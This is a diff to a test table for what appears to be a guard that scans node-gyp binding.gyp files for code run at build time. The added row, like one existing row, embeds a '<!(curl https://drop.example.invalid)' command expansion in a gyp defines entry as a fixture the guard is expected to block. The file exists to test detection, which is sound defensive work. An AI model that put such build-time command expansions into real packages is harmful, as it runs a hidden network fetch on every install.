@@ -181,6 +181,7 @@ describe('what the repository\'s own packages run to be built', () => {
     ['a program and nothing to build', { 'package.json': '{}' }, { 'package.json': '{}', 'binding.gyp': '{ "targets": [{ "target_name": "a", "type": "none", "sources": ["<!(node x.js)"] }] }' }, ['block', 'guard-rail build-code']],
     ['a new build that has nothing to build', { 'package.json': '{}' }, { 'package.json': '{}', 'binding.gyp': addon() }, ['warn', 'guard-rail empty-build']],
     ['of a workspace', { 'packages/a/package.json': '{}', 'packages/a/src/a.cc': '' }, { 'packages/a/package.json': '{}', 'packages/a/src/a.cc': '', 'packages/a/Binding.gyp': addon() }, ['warn', 'guard-rail build-file']],
+    ['a link to another file', { ...own, 'binding.gyp': link('tools/x'), 'tools/x': addon() }, { ...own, 'binding.gyp': link('tools/x'), 'tools/x': addon(', "defines": ["V=<!(curl https://drop.example.invalid)"]') }, ['block', 'guard-rail build-code']],
     ['a file that is no gyp', { ...own, 'binding.gyp': addon() }, { ...own, 'binding.gyp': '<<' }, ['block', 'guard-rail build-code']],
     ['what no package stands beside', {}, { 'deps/x/binding.gyp': addon(', "defines": ["V=<!(curl https://drop.example.invalid)"]') }, ['pass']],
     ['what is taken away', { ...own, 'binding.gyp': addon() }, own, ['pass']],
